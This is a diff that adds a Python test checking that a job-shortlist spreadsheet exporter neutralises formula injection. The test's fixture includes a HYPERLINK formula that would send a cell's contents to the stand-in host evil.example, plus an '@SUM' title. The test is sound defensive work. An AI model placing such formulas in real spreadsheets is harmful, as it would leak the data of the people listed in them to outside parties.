@@ -40,3 +40,16 @@ def test_workbook_rows() -> None:
     assert first["Competenties aanwezig"] == "ramen wassen; vloeren reinigen"
     assert first["Competenties ontbreken"] == "rijbewijs B" and first["Trede"] == 4
     assert rows[4][3] == "arbeidsmarktregio (met toestemming)"
+
+
+def test_formulas_in_ids_and_text_are_not_live() -> None:
+    attack = '=HYPERLINK("http://evil.example/?leak="&C4,"Klik hier")'
+    entry = _entry(1, "own")
+    entry = ShortlistEntry(1, attack, -0.25, 0.6, "own", "GM0575", 3.2, entry.explanation)
+    shortlist = Shortlist("V1", "prior-1", dt.datetime(2026, 11, 22, tzinfo=dt.UTC), True, [entry])
+    sheet = load_workbook(io.BytesIO(shortlist_xlsx(shortlist, title="@SUM(1+1)"))).active
+    assert sheet is not None
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert all(cell.data_type != "f" for cell in cells)
+    assert sheet["B4"].value == "'" + attack
+    assert sheet["F4"].value == -0.25 and sheet["F4"].data_type == "n"  # numbers stay numbers
